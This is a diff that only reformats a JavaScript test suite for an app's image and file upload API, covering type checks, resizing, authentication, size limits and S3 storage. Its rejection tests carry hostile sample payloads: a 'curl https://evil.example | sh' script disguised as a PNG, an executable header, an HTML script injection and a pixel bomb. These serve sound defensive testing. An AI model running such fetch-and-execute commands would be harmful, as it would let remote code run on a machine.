@@ -49,7 +49,13 @@ describe('images: upload, read back, delete', () => {
     const original = await photo();
     expect((await sharp(original).metadata()).exif).toBeDefined();
     const res = await uploadImage(ctx, world, original, 'IMG_0001.JPG', { width: 400, height: 400 }).expect(201);
-    expect(res.body).toMatchObject({ mimeType: 'image/jpeg', width: 400, height: 300, sectionId: null, url: expect.stringMatching(/^\/api\/v1\/files\/images\/[0-9a-f-]{36}\.jpg$/) });
+    expect(res.body).toMatchObject({
+      mimeType: 'image/jpeg',
+      width: 400,
+      height: 300,
+      sectionId: null,
+      url: expect.stringMatching(/^\/api\/v1\/files\/images\/[0-9a-f-]{36}\.jpg$/),
+    });
 
     const served = await binary(ctx.http().get(res.body.url)).expect(200);
     expect(served.headers['content-type']).toBe('image/jpeg');
@@ -73,10 +79,14 @@ describe('images: upload, read back, delete', () => {
 
   it('keeps PNG and WebP in their format and never enlarges', async () => {
     const world = await newVendorWorld(ctx, 0);
-    const png = await sharp({ create: { width: 50, height: 40, channels: 4, background: '#ff000080' } }).png().toBuffer();
+    const png = await sharp({ create: { width: 50, height: 40, channels: 4, background: '#ff000080' } })
+      .png()
+      .toBuffer();
     const pngRes = await uploadImage(ctx, world, png, 'logo.png', { width: 1000 }).expect(201);
     expect(pngRes.body).toMatchObject({ mimeType: 'image/png', width: 50, height: 40 });
-    const webp = await sharp({ create: { width: 300, height: 600, channels: 3, background: '#00ff00' } }).webp().toBuffer();
+    const webp = await sharp({ create: { width: 300, height: 600, channels: 3, background: '#00ff00' } })
+      .webp()
+      .toBuffer();
     const webpRes = await uploadImage(ctx, world, webp, 'x.webp', { height: 300 }).expect(201);
     expect(webpRes.body).toMatchObject({ mimeType: 'image/webp', width: 150, height: 300, url: expect.stringMatching(/\.webp$/) });
   });
@@ -109,13 +119,19 @@ describe('images: upload, read back, delete', () => {
     const world = await newVendorWorld(ctx, 0);
     const count = async () => (await ctx.db.query(`SELECT count(*)::int AS n FROM image WHERE vendor_id = $1`, [world.vendorId])).rows[0].n;
     const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
-    const spoofed = await ctx.http().post(`${F}/images`).set(world.auth).attach('file', script, { filename: 'beach.png', contentType: 'image/png' });
+    const spoofed = await ctx
+      .http()
+      .post(`${F}/images`)
+      .set(world.auth)
+      .attach('file', script, { filename: 'beach.png', contentType: 'image/png' });
     expectDomainError(spoofed, 415, 'UNSUPPORTED_FILE_TYPE');
     expect(spoofed.body.payload.allowed).toEqual(['image/png', 'image/jpeg', 'image/webp']);
     expectDomainError(await uploadImage(ctx, world, Buffer.from('%PDF-1.4 plan'), 'plan.pdf'), 415, 'UNSUPPORTED_FILE_TYPE');
     const truncated = (await photo()).subarray(0, 300);
     expectDomainError(await uploadImage(ctx, world, truncated, 'broken.jpg'), 415, 'UNSUPPORTED_FILE_TYPE');
-    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } }).png().toBuffer();
+    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } })
+      .png()
+      .toBuffer();
     expectDomainError(await uploadImage(ctx, world, png, 'really-a-png.jpg'), 415, 'UNSUPPORTED_FILE_TYPE');
     expect(await count()).toBe(0);
   });
@@ -127,7 +143,14 @@ describe('images: upload, read back, delete', () => {
     const json = await ctx.http().post(`${F}/images`).set(world.auth).send({ file: 'x' });
     expect(json.status).toBeGreaterThanOrEqual(400);
     expect(json.status).toBeLessThan(500);
-    expectDomainError(await ctx.http().post(`${F}/images`).attach('file', await photo(8, 8), 'x.jpg'), 401, 'UNAUTHENTICATED');
+    expectDomainError(
+      await ctx
+        .http()
+        .post(`${F}/images`)
+        .attach('file', await photo(8, 8), 'x.jpg'),
+      401,
+      'UNAUTHENTICATED',
+    );
     const theirs = await uploadImage(ctx, other, await photo(8, 8)).expect(201);
     expectDomainError(await ctx.http().delete(`${F}/images/${theirs.body.id}`).set(world.auth), 404, 'ENTITY_NOT_FOUND');
     expectDomainError(await ctx.http().delete(`${F}/images/${theirs.body.id}`), 401, 'UNAUTHENTICATED');
@@ -140,7 +163,13 @@ describe('files: upload, list, download, delete', () => {
     const world = await newVendorWorld(ctx, 0);
     const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2 * 1024 * 1024, 1)]);
     const res = await uploadFile(ctx, world, pdf, 'Strandplan 2026.pdf').expect(201);
-    expect(res.body).toMatchObject({ vendorId: world.vendorId, originalName: 'Strandplan 2026.pdf', mimeType: 'application/pdf', sizeBytes: pdf.length, url: `/api/v1/features/files/${res.body.id}/content` });
+    expect(res.body).toMatchObject({
+      vendorId: world.vendorId,
+      originalName: 'Strandplan 2026.pdf',
+      mimeType: 'application/pdf',
+      sizeBytes: pdf.length,
+      url: `/api/v1/features/files/${res.body.id}/content`,
+    });
     const csv = await uploadFile(ctx, world, Buffer.from('Nummer;Modell\n1;OSK\n'), 'export.csv', 'application/vnd.ms-excel').expect(201);
     expect(csv.body.mimeType).toBe('text/csv');
     const list = await ctx.http().get(`${F}/files`).set(world.auth).query({ orderBy: 'id' }).expect(200);
@@ -160,9 +189,17 @@ describe('files: upload, list, download, delete', () => {
 
   it('refuses a script named .png, a binary blob and an executable (415)', async () => {
     const world = await newVendorWorld(ctx, 0);
-    expectDomainError(await uploadFile(ctx, world, Buffer.from('#!/bin/sh\necho pwned\n'), 'holiday.png', 'image/png'), 415, 'UNSUPPORTED_FILE_TYPE');
+    expectDomainError(
+      await uploadFile(ctx, world, Buffer.from('#!/bin/sh\necho pwned\n'), 'holiday.png', 'image/png'),
+      415,
+      'UNSUPPORTED_FILE_TYPE',
+    );
     expectDomainError(await uploadFile(ctx, world, Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03]), 'setup.exe'), 415, 'UNSUPPORTED_FILE_TYPE');
-    expectDomainError(await uploadFile(ctx, world, Buffer.from('<html><script>alert(1)</script></html>'), 'page.html', 'text/html'), 415, 'UNSUPPORTED_FILE_TYPE');
+    expectDomainError(
+      await uploadFile(ctx, world, Buffer.from('<html><script>alert(1)</script></html>'), 'page.html', 'text/html'),
+      415,
+      'UNSUPPORTED_FILE_TYPE',
+    );
     expect((await ctx.db.query(`SELECT count(*)::int AS n FROM file WHERE vendor_id = $1`, [world.vendorId])).rows[0].n).toBe(0);
   });
 
@@ -183,7 +220,9 @@ describe('files: upload, list, download, delete', () => {
 describe('uploads: size limit and the S3 driver', () => {
   it('a 49-megapixel picture in a small file is refused from its header (413 IMAGE_TOO_MANY_PIXELS), quickly, and nothing is stored', async () => {
     const world = await newVendorWorld(ctx, 0);
-    const bomb = await sharp({ create: { width: 7000, height: 7000, channels: 3, background: '#ffffff' } }).png({ compressionLevel: 9 }).toBuffer();
+    const bomb = await sharp({ create: { width: 7000, height: 7000, channels: 3, background: '#ffffff' } })
+      .png({ compressionLevel: 9 })
+      .toBuffer();
     expect(bomb.length).toBeLessThan(1024 * 1024);
     const started = Date.now();
     const res = await uploadImage(ctx, world, bomb, 'bomb.png');
@@ -202,7 +241,9 @@ describe('uploads: size limit and the S3 driver', () => {
       const res = await uploadFile(small, world, big, 'big.pdf');
       expectDomainError(res, 413, 'FILE_TOO_LARGE');
       expect(res.body.payload).toEqual({ maxBytes: 65536 });
-      const noise = await sharp(randomBytes(400 * 400 * 3), { raw: { width: 400, height: 400, channels: 3 } }).jpeg({ quality: 95 }).toBuffer();
+      const noise = await sharp(randomBytes(400 * 400 * 3), { raw: { width: 400, height: 400, channels: 3 } })
+        .jpeg({ quality: 95 })
+        .toBuffer();
       expect(noise.length).toBeGreaterThan(65536);
       expectDomainError(await uploadImage(small, world, noise), 413, 'FILE_TOO_LARGE');
       await uploadFile(small, world, Buffer.from('%PDF-1.4 small'), 'small.pdf').expect(201);
@@ -218,7 +259,12 @@ describe('uploads: size limit and the S3 driver', () => {
     beforeAll(async () => {
       s3 = await startS3();
       app = await startTestApp({ ...s3.env, DATA_DIR: dataDir });
-      client = new S3Client({ endpoint: s3.endpoint, region: 'eu-central-1', forcePathStyle: true, credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' } });
+      client = new S3Client({
+        endpoint: s3.endpoint,
+        region: 'eu-central-1',
+        forcePathStyle: true,
+        credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' },
+      });
     });
     afterAll(async () => {
       client.destroy();
@@ -240,7 +286,9 @@ describe('uploads: size limit and the S3 driver', () => {
       expect((await binary(app.http().get(file.body.url).set(world.auth)).expect(200)).body.toString()).toBe('%PDF-1.4 s3');
 
       await app.http().delete(`${F}/images/${image.body.id}`).set(world.auth).expect(204);
-      await expect(client.send(new HeadObjectCommand({ Bucket: s3.bucket, Key: key }))).rejects.toMatchObject({ $metadata: { httpStatusCode: 404 } });
+      await expect(client.send(new HeadObjectCommand({ Bucket: s3.bucket, Key: key }))).rejects.toMatchObject({
+        $metadata: { httpStatusCode: 404 },
+      });
     });
   });
 });
